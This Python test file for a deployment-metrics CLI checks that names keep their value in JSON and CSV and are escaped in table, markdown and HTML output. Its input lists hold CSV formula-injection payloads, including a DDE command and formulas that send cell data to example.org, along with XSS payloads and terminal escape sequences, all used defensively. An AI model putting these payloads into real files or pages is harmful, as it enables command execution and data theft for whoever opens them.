# SPDX-License-Identifier: MIT
"""Names that try to get out of their cell, as service, team, phase, version and environment through every writer.

What machines read parses back to the very name; in what people see nothing steers a terminal, ends a cell, opens a tag
or is a formula. Names of our own, and the big list of naughty strings where there is shared material.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
import sys
import unittest
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).parents[1] / "support"))
import harness  # noqa: E402

# C0 and C1 controls, and what reverses, hides or joins text on a terminal: as code points, first to last.
UNSAFE_POINTS = [
    (0x00, 0x1F), (0x7F, 0x9F), (0x61C, 0x61C), (0x200B, 0x200F), (0x2028, 0x202E), (0x2060, 0x206F),
    (0xFEFF, 0xFEFF), (0xFFF9, 0xFFFB), (0xE0000, 0xE007F),
]  # fmt: skip
UNSAFE = re.compile("[" + "".join(f"{chr(first)}-{chr(last)}" for first, last in UNSAFE_POINTS) + "]")
FORMULA_STARTS = "=+-@\t\r\n＝＋－＠"
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.org/?v=", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    "'=1+1",
    "x;=1+1",
    'x","=1+1',
    'x\n"=1+1',
    "-",
    "=",
]
NASTY = [
    *(chr(code) for first, last in UNSAFE_POINTS for code in range(max(first, 1), last + 1)),
    "\x80\x9b2J\x9f",
    "\x1b[31mred\x1b]0;title\x07",
    "\x1b]8;;http://example.org\x1b\\link\x1b]8;;\x1b\\",
    "left\u202eright\u2066\u2069\u200f\u061c",
    "\u2028\u2029",
    "a|b\\|c",
    "`code` *bold* [link](x) <b>",
    "![image](http://example.org/x.png)",
    "<script>alert(1)</script>",
    "</td></table></style><img src=x onerror=alert(1)>",
    "&lt;&amp;#39;&",
    "\" onmouseover='alert(1)",
    "line\nbreak\r\nand return\rend",
    'quo"te,comma;semi\ttab',
    "null",
    "\u0000nul",
    "x" * 5000,
    " ",
    " x ",
    "é",
    "e\u0301",
    "z" + "\u0301" * 100,
    "\U0001f469\u200d\U0001f4bb",
]
BLNS = harness.SHARED / "corpora/blns/blns.json"


def names() -> list[str]:
    naughty = json.loads(BLNS.read_text(encoding="utf-8")) if BLNS.exists() else []
    return sorted({name for name in [*naughty, *NASTY, *FORMULAS] if name}, key=str.encode)


def services(given: list[str]) -> list[dict[str, Any]]:
    return [{"service": name, "finished_at": "2024-03-01"} for name in given]


def teams(given: list[str]) -> list[dict[str, Any]]:
    """Each name as the team of a service, and as all else that a deployment has a name for."""
    facts: list[dict[str, Any]] = []
    for number, name in enumerate(given):
        facts.append({"kind": "service", "id": f"s{number}", "team": name, "product": name})
        facts.append({"service": f"s{number}", "id": name, "version": name, "sha": name, "finished_at": "2024-03-01"})
        facts.append({"service": f"s{number}", "environment": name, "version": name, "finished_at": "2024-03-01"})
    return facts


def phases(given: list[str]) -> list[dict[str, Any]]:
    facts: list[dict[str, Any]] = [
        {"kind": "release", "id": "r", "started_at": "2024-03-01", "released_at": "2024-03-31"}
    ]
    for name in given:
        times = {"started_at": "2024-03-01", "finished_at": "2024-03-02"}
        facts.append({"kind": "phase", "release": "r", "name": name, "version": name, **times})
    return facts


# The column a name is in, what is asked, and the history that has the names.
PLACES = [
    ("service", ["report", "--by", "service", "--metrics", "deployments"], services),
    ("team", ["report", "--by", "team", "--metrics", "deployments"], teams),
    ("product", ["report", "--by", "product", "--metrics", "deployments", "--infer-rollbacks"], teams),
    ("phase", ["phases"], phases),
]


def ndjson(facts: list[dict[str, Any]], ascii_only: bool = True) -> bytes:
    return "\n".join(json.dumps(fact, ensure_ascii=ascii_only) for fact in facts).encode()


def written(arguments: list[str], content: bytes, *options: str) -> str:
    done = harness.dora(*arguments, "--quiet", *options, "-", stdin=content)
    if done.returncode != 0:
        raise AssertionError(done.stderr)
    return done.stdout.decode()


def shown(name: str) -> str:
    """As formats for people show it."""

    def escaped(found: re.Match[str]) -> str:
        code = ord(found[0])
        return f"\\x{code:02x}" if code < 0x100 else f"\\u{{{code:x}}}"

    return UNSAFE.sub(escaped, name)


class Cells(html.parser.HTMLParser):
    """The texts of the first and second cell of each row of a table; tags that no table has are a failure."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.rows: list[list[str]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in "br caption div p span style table tbody td th thead tr".split():
            raise AssertionError(f"<{tag} {attrs}>")
        if any(name.startswith("on") or name in ("href", "src", "style") for name, _ in attrs):
            raise AssertionError(f"<{tag} {attrs}>")
        if tag == "tr":
            self.rows.append([])
        if tag in ("td", "th") and self.rows:
            self.rows[-1].append("")

    def handle_data(self, data: str) -> None:
        if self.rows and self.rows[-1]:
            self.rows[-1][-1] += data


class Machines(unittest.TestCase):
    def test_read_back(self) -> None:
        """A name comes out of every format for machines as it went in, in the order of bytes."""
        want = names()
        for column, arguments, history in PLACES:
            for ascii_only in (True, False):
                content = ndjson(history(want), ascii_only)
                for format_ in ("ndjson", "json", "csv"):
                    with self.subTest(f"{column} {format_}"):
                        text = written(arguments, content, "--format", format_)
                        if format_ == "csv":
                            rows = list(csv.DictReader(io.StringIO(text, newline="")))
                        elif format_ == "json":
                            rows = json.loads(text)
                        else:
                            rows = [json.loads(line) for line in text.split("\n") if line]
                        self.assertEqual([row[column] for row in rows if row[column]], want)
                        if format_ != "csv":
                            self.assertNotRegex(text.replace("\n", ""), UNSAFE)

    def test_read_as_csv(self) -> None:
        """Names that come in as CSV are those that come in as JSON."""
        text = io.StringIO(newline="")
        table = csv.writer(text, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
        table.writerow(["service", "finished_at"])
        table.writerows([name, "2024-03-01"] for name in names())
        arguments = PLACES[0][1]
        got = written(arguments, text.getvalue().encode(), "--format", "ndjson")
        self.assertEqual(got, written(arguments, ndjson(services(names())), "--format", "ndjson"))

    def test_csv_safe(self) -> None:
        """No cell of text starts a formula: an apostrophe is put before what would, and nothing else is changed."""
        want = names()
        for column, arguments, history in PLACES:
            with self.subTest(column):
                content = ndjson(history(want))
                text = written(arguments, content, "--format", "csv", "--csv-safe")
                safe = list(csv.reader(io.StringIO(text, newline="")))
                plain = csv.reader(io.StringIO(written(arguments, content, "--format", "csv"), newline=""))
                at = safe[0].index(column)
                self.assertEqual(len(safe[1:]), len(list(plain)) - 1)
                got = [row[at] for row in safe[1:] if row[at]]
                self.assertEqual(got, [f"'{name}" if name[0] in FORMULA_STARTS else name for name in want])
                for row in safe:
                    for number, cell in enumerate(row):
                        self.assertFalse(number == at and cell and cell[0] in FORMULA_STARTS)

    def test_csv_safe_leaves_numbers(self) -> None:
        """Only text is changed: a negative number, a date and a null are what they are without the option."""
        facts: list[dict[str, Any]] = [{"kind": "release", "id": "r", "service": "=s", "released_at": "2024-03-31"}]
        facts.append({"kind": "feedback", "release": "r", "measure": "satisfaction", "value": -2.5, "at": "2024-03-15"})
        arguments = ["report", "--by", "service", "--metrics", "satisfaction,deployments"]
        text = written(arguments, ndjson(facts), "--format", "csv", "--csv-safe")
        self.assertEqual(text.split("\n")[1].split(",")[:2], ['"\'=s"', "2024-03-01"])
        self.assertIn(",-2.5", text)
        self.assertEqual(text.replace('"\'=s"', "=s"), written(arguments, ndjson(facts), "--format", "csv"))


class People(unittest.TestCase):
    def test_nothing_unsafe_is_shown(self) -> None:
        for column, arguments, history in PLACES:
            content = ndjson(history(names()))
            for options in (["table"], ["markdown"], ["html"], ["table", "--color", "always"]):
                with self.subTest(f"{column} {options}"):
                    text = written(arguments, content, "--format", *options)
                    if "--color" in options:
                        text = re.sub(r"\x1b\[\d*m", "", text)
                    self.assertNotRegex(text.replace("\n", ""), UNSAFE)

    def test_markdown_cells(self) -> None:
        """No name ends its cell or means anything, and without its backslashes it is what a table shows."""
        want = names()
        for column, arguments, history in PLACES:
            text = written(arguments, ndjson(history(want)), "--format", "markdown")
            lines = [line for line in text.split("\n") if line.startswith("|")]
            rows = [re.sub(r"\\(.)", lambda found: f"\0{ord(found[1]):x};", line).split("|") for line in lines]
            self.assertEqual(len({len(row) for row in rows}), 1, column)
            at = [cell.strip() for cell in rows[0]].index(column)
            got = [row[at] for row in rows[2:]]
            self.assertFalse([cell for cell in got if re.search(r"[*_`<\[\]#~]", cell)], column)
            texts = [re.sub("\0([0-9a-f]+);", lambda m: chr(int(m[1], 16)), cell[1:-1]) for cell in got]
            self.assert_shown(texts, want)

    def test_html_cells(self) -> None:
        for column, arguments, history in PLACES:
            rows = Cells(written(arguments, ndjson(history(names())), "--format", "html")).rows
            self.assertLessEqual(len({len(row) for row in rows if len(row) > 1}), 2, column)
            at = 1 if column == "phase" else 0
            self.assert_shown([row[at] for row in rows[1:] if len(row) > at], names())

    def assert_shown(self, texts: list[str], want: list[str]) -> None:
        texts = [text for text in texts if text not in ("(none)", "")]
        self.assertEqual(len(texts), len(want))
        for text, name in zip(texts, want, strict=True):
            whole = shown(name)
            cut = text.endswith("...") and whole.startswith(text.strip()[:-3])
            self.assertTrue(cut or text.strip() == whole.strip(), f"{text!r} is not {whole!r}")


class Messages(unittest.TestCase):
    def test_messages(self) -> None:
        """Names in messages, unknown fields and environments are shown without controls."""
        for name in names():
            lines: list[dict[str, Any]] = [
                {"kind": name},
                {"finished_at": name},
                {name: 1},
                {"environment": name, "status": name},
            ]
            done = harness.dora("check", "--format", "table", "-", stdin=ndjson(lines) + b"\n" + name.encode())
            for text in (done.stdout, done.stderr):
                self.assertNotRegex(text.decode().replace("\n", ""), UNSAFE)

    def test_options(self) -> None:
        for name in names():
            if "\0" not in name:
                done = harness.dora("report", "--by", name, "-")
                self.assertEqual(done.returncode, 2)
                self.assertNotRegex(done.stderr.decode().replace("\n", ""), UNSAFE)


if __name__ == "__main__":
    unittest.main()
